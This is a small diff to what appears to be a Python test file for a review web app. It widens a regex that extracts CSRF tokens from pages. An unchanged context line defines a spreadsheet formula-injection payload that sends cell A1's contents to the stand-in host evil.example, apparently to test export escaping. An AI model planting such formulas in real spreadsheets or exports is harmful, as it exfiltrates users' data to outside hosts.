@@ -25,7 +25,7 @@ from pipeline.review import create_app  # noqa: E402
 from pipeline.review.commands import register  # noqa: E402
 
 BASE = "http://127.0.0.1"
-TOKEN = re.compile(r'<meta name="csrf-token" content="([0-9a-f]+)">')
+TOKEN = re.compile(r'(?:<meta name="csrf-token" content|name="csrf_token" value)="([0-9a-f]+)"')
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
